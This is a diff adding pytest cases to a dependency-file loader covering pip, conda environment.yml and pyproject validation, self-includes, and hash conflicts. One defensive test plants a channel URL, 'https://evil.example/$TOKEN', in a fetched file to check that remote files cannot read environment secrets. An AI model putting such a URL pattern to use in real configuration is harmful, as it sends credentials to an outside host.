@@ -221,6 +221,11 @@ def test_the_pip_section_can_be_read_alone(folder: Folder) -> None:
         ("dependencies: [{npm: [a]}]\n", "'npm'"),
         ("dependencies: [a]\nvariables: {A: b}\n", "variables"),
         ("dependencies: [{pip: [-e .]}]\n", "pip: line 1.*editable"),
+        ("dependencies: [{pip: flask}]\n", "pip section must be a list of texts"),
+        ("dependencies: [{pip: [null]}]\n", "pip section must be a list of texts"),
+        ("dependencies: [a, null]\n", "dependencies must be a list of texts"),
+        ("dependencies: [a, 3.1]\n", "dependencies must be a list of texts"),
+        ("channels: mine\ndependencies: [a]\n", "channels must be a list of texts"),
     ],
 )
 def test_an_environment_file_that_cannot_be_followed_is_refused(
@@ -230,10 +235,24 @@ def test_an_environment_file_that_cannot_be_followed_is_refused(
         load(folder.write(text, "environment.yml"))
 
 
-def test_a_file_that_names_itself_is_refused(folder: Folder) -> None:
+def test_channels_of_an_environment_file_have_variables_as_for_conda(folder: Folder) -> None:
+    text = "channels: ['https://me:${SECRET}@one.example/$WHO', $NOBODY]\ndependencies: [a]\n"
+    found = load(folder.write(text, "environment.yml"), SECRET="pass", WHO="me")
+    assert found.channels == ("https://me:pass@one.example/me", "$NOBODY")
+
+
+@pytest.mark.parametrize("spelling", ["b.txt", "./b.txt", "../{folder}/b.txt"])
+def test_a_file_that_names_itself_is_refused(folder: Folder, spelling: str) -> None:
     folder.write("-r requirements.txt\n", "b.txt")
     with pytest.raises(SpecError, match="names itself"):
-        load(folder.write("-r b.txt\n"))
+        load(folder.write(f"-r {spelling.format(folder=folder.path.name)}\n"))
+
+
+def test_a_requirement_with_other_hashes_than_before_is_refused(folder: Folder) -> None:
+    text = f"a==1 --hash=sha256:{ZEROS}\n"
+    assert load(folder.write(text * 2)).hashes == {"a==1": frozenset([ZEROS])}
+    with pytest.raises(SpecError, match=r"line 2.*other hashes"):
+        load(folder.write(text + text.replace(ZEROS, ONES)))
 
 
 def test_a_missing_file_and_one_that_is_no_text_are_refused(folder: Folder) -> None:
@@ -286,6 +305,12 @@ def test_a_file_from_the_network_learns_nothing_of_this_machine(
         read([f"{served}requirements.txt"], environ={"TOKEN": "canary"}, fetch=fetch)
 
 
+def test_channels_of_a_file_from_the_network_learn_nothing_either(folder: Folder, served: str) -> None:
+    folder.write("channels: ['https://evil.example/$TOKEN']\ndependencies: [a]\n", "environment.yml")
+    with pytest.raises(SpecError, match="may not see environment variables"):
+        read([f"{served}environment.yml"], environ={"TOKEN": "canary"}, fetch=fetch)
+
+
 def test_without_a_way_to_fetch_urls_are_refused_without_their_secrets() -> None:
     with pytest.raises(SpecError) as caught:
         load("https://me:canary@x.example/r.txt?token=canary")
@@ -329,6 +354,7 @@ def test_a_dependency_group_is_read_with_those_it_includes(folder: Folder) -> No
         ("[tool.x]\n", "", r"no \[project\] table"),
         ('[project]\nname = "x"\ndynamic = ["dependencies"]\n', "", "dynamic"),
         ('[project]\nname = "x"\ndependencies = "flask"\n', "", "not a list of strings"),
+        ('[project]\nname = "x"\ndynamic = 3\ndependencies = 3\n', "", "not a list of strings"),
         ("[project\n", "", "not TOML"),
     ],
 )
